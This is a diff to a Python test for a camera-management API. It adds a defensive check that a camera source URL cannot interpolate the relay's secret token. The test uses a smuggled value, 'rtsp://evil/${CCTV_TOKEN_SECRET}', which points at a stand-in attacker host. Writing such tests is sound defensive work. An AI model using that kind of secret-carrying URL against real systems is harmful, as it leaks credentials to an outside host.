@@ -80,6 +80,10 @@ def test_camera_crud_never_shows_secrets(
     assert r.status_code == 400 and r.json()["detail"] == "purposes[0]: unknown purpose 'public_safty'"
     r = client.put("/api/cameras/cam-101", json={**CAMERA, "latitude": 95}, headers=admin)
     assert r.status_code == 422 and r.json()["detail"][0]["loc"] == ["body", "latitude"]
+    # A camera URL must not be able to carry the relay's own secrets to the host it names.
+    evil = {**CAMERA, "source_url": "rtsp://evil/${CCTV_TOKEN_SECRET}"}
+    r = client.put("/api/cameras/cam-101", json=evil, headers=admin)
+    assert r.status_code == 422 and "may only reference CAM_* or CAMERA_*" in r.text
     r = client.put("/api/cameras/cam-101", json={**CAMERA, "id": "cam-102"}, headers=admin)
     assert r.status_code == 400
     new = {**CAMERA, "name": "Taipei 101 east plaza", "source_url": "rtsp://10.9.0.4/main"}
